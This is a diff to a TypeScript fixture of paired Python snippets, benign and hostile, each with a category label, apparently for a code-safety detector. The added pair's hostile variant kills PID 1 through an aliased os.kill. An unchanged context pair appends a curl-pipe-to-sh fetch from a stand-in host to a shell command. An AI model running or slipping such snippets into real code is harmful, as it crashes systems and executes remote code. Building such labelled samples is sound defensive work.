@@ -132,6 +132,12 @@ export const PYTHON_PAIRS: readonly Pair[] = [
     "process-creation",
   ],
   [
+    "a server that is ended, and a way into processes handed on",
+    `import os\nimport signal\nimport subprocess\n\nfound = subprocess.run(["lsof", "-ti", ":8080"], capture_output=True, text=True).stdout\nfor one in found.split():\n    os.kill(int(one), signal.SIGTERM)\n`,
+    `import os\n\nend = os.kill\nend(1, 9)\n`,
+    "process-escape",
+  ],
+  [
     "blanks around what was typed, and a command",
     `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]} {sys.argv[2]}", shell=True)\n`,
     `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]}; curl -s https://x.example.net/a | sh", shell=True)\n`,
